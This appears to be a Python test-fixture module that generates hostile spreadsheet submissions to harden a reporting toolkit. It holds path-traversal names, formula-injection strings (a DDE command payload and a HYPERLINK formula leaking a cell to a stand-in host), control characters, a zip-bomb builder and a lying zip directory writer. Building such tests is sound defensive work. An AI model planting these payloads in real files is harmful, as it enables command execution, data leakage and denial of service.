"""A hostile and faulty corpus, generated small (issue 17): names that try to leave their folder,
texts that try to become formulas, workbooks that try to exhaust memory or abort the reader.

Every builder writes a real file; the tests read what the toolkit writes back with openpyxl
and by unzipping the package. Other engineers may reuse everything here.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

from factories import PERIOD, unit_rows
from toolkit import templates as T
from toolkit.schema import META_LABELS, SURVEY, TASK_LEDGER

#: unit names (a 填报单位 cell or toolkit.toml) that try to leave the 退回修改 / 下发模板 folder
TRAVERSAL_NAMES = (
    "../../逃逸", "..\\..\\逃逸", "/tmp/绝对路径", "C:\\Windows\\系统", "C:逃逸", "\\\\server\\share\\共享",
    "子/文件夹", "CON", "nul.txt", "COM1", "  尾部点和空格. . ", ".隐藏", ".~tmp-冒充临时文件",
    "\u202exslx.exe", "名" * 90,  # 270 bytes of UTF-8 on its own
)

#: texts that a spreadsheet program would take as a formula, or as more than text
INJECTIONS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?d="&A4,"点此查看")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "=1+1",
)

CONTROL_TEXT = "控制\x01字符\x07和\x1b[31m转义\x1b[0m"


def rows(seed: int = 1, *, error: bool = True) -> dict[str, list[dict[str, Any]]]:
    """A unit's rows; with ``error`` the first visit has 参与人数 0 (a 错误: the file is returned)."""
    out = unit_rows(random.Random(seed), 3, 2, 2)
    if error:
        out["visits"][0]["participants"] = 0
    return out


def workbook(path: Path, *, unit: str | None, data: dict[str, list[dict[str, Any]]] | None = None,
             template=SURVEY, meta: dict[str, Any] | None = None) -> Path:
    """A submission from the toolkit's own template whose 填报单位 (title, meta cell, metadata) is
    ``unit`` as given, with ``data`` rows and meta values (填报人, 联系电话, 填报日期) as given."""
    wb = T.build_workbook(template, unit=unit, period=PERIOD)
    data = rows() if data is None else data
    for sheet in template.sheets:
        T.fill_rows(wb, sheet.key, data.get(sheet.key, []))
    if meta:
        T.set_meta(wb, filler=meta.get(META_LABELS[1]), phone=meta.get(META_LABELS[2]),
                   fill_date=meta.get(META_LABELS[3]))
    path.parent.mkdir(parents=True, exist_ok=True)
    T.save_workbook(wb, path)
    return path


def listing(root: Path) -> set[str]:
    """Every file and folder below ``root`` (relative, POSIX), to see what a run created."""
    return {p.relative_to(root).as_posix() for p in Path(root).rglob("*")}


# ---------------------------------------------------------------------------
# Packages rewritten part by part
# ---------------------------------------------------------------------------


def rewrite(path: Path, replace: dict[str, bytes], *, add: dict[str, bytes] | None = None) -> Path:
    """Rewrite the zip at ``path`` with some members replaced (and others added)."""
    src = zipfile.ZipFile(path)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = replace.get(info.filename, src.read(info))
            dst.writestr(info.filename, data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    src.close()
    path.write_bytes(buf.getvalue())
    return path


def replace_text(path: Path, placeholder: str, text: str) -> Path:
    """Put ``text`` where a cell of the package holds ``placeholder`` (openpyxl cuts a text to
    32,767 characters and refuses control characters: a unit's Excel file need not)."""
    from xml.sax.saxutils import escape

    with zipfile.ZipFile(path) as zf:
        parts = {n: zf.read(n) for n in zf.namelist() if n.endswith(".xml")}
    old, new = escape(placeholder).encode(), escape(text).encode()
    return rewrite(path, {n: data.replace(old, new) for n, data in parts.items() if old in data})


def sheet_member(path: Path, index: int = 0) -> str:
    with zipfile.ZipFile(path) as zf:
        names = sorted(n for n in zf.namelist() if n.startswith("xl/worksheets/sheet"))
    return names[index]


def add_far_cell(path: Path, ref: str = "XFD1048576", value: str = "1") -> Path:
    """One value in a far cell of the first sheet (python-calamine would allocate the whole range)."""
    member = sheet_member(path)
    with zipfile.ZipFile(path) as zf:
        xml = zf.read(member)
    row = int("".join(ch for ch in ref if ch.isdigit()))
    cell = f'<row r="{row}"><c r="{ref}"><v>{value}</v></c></row>'.encode()
    xml = xml.replace(b"</sheetData>", cell + b"</sheetData>", 1)
    return rewrite(path, {member: xml})


def bomb_member(size: int, unit: bytes = b"<!-- bomb -->") -> tuple[bytes, int]:
    """A raw deflate stream inflating to ``size`` bytes of ``unit`` (and a CRC of 0: the reader
    must refuse such a part by its size, before any CRC could be checked), made in a fraction of
    a second: one compressed block of 1 MiB repeated (each a full flush, so blocks do not refer
    to each other)."""
    block = (unit * ((1 << 20) // len(unit) + 1))[: 1 << 20]
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    return one * (size // len(block)) + tail, 0


def zip_with_raw_member(path: Path, name: str, raw: bytes, crc: int, size: int, *, declared: int | None = None) -> Path:
    """Replace member ``name`` of the package at ``path`` by a deflate stream given raw
    (``raw``, inflating to ``size`` bytes with ``crc``); ``declared``: the size the zip
    directory claims (default: the true one; smaller = a lying directory)."""
    declared = size if declared is None else declared
    src = zipfile.ZipFile(path)
    out = io.BytesIO()
    central = []
    infos = src.infolist()
    if name not in src.namelist():
        infos.append(zipfile.ZipInfo(name))
    for info in infos:
        if info.filename == name:  # (added when the package has no such member)
            data, c, usize, csize = raw, crc, declared, len(raw)
        else:
            plain = src.read(info)
            comp = zlib.compressobj(6, zlib.DEFLATED, -15)
            data = comp.compress(plain) + comp.flush()
            c, usize, csize = zlib.crc32(plain), len(plain), len(data)
        fname = info.filename.encode("utf-8")
        offset = out.tell()
        zip64 = usize >= 0xFFFFFFFF or csize >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, usize, csize) if zip64 else b""
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 45 if zip64 else 20, 0x800, 8, 0, 0x21, c,
                              0xFFFFFFFF if zip64 else csize, 0xFFFFFFFF if zip64 else usize, len(fname), len(extra)))
        out.write(fname + extra + data)
        central.append((fname, c, usize, csize, offset, zip64))
    src.close()
    cd_start = out.tell()
    for fname, c, usize, csize, offset, zip64 in central:
        extra = struct.pack("<HHQQQ", 1, 24, usize, csize, offset) if zip64 else b""
        out.write(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 45, 45 if zip64 else 20, 0x800, 8, 0, 0x21, c,
                              0xFFFFFFFF if zip64 else csize, 0xFFFFFFFF if zip64 else usize, len(fname), len(extra),
                              0, 0, 0, 0, 0xFFFFFFFF if zip64 else offset))
        out.write(fname + extra)
    cd_size = out.tell() - cd_start
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central), cd_size, cd_start, 0))
    path.write_bytes(out.getvalue())
    return path


TEMPLATES = (SURVEY, TASK_LEDGER)
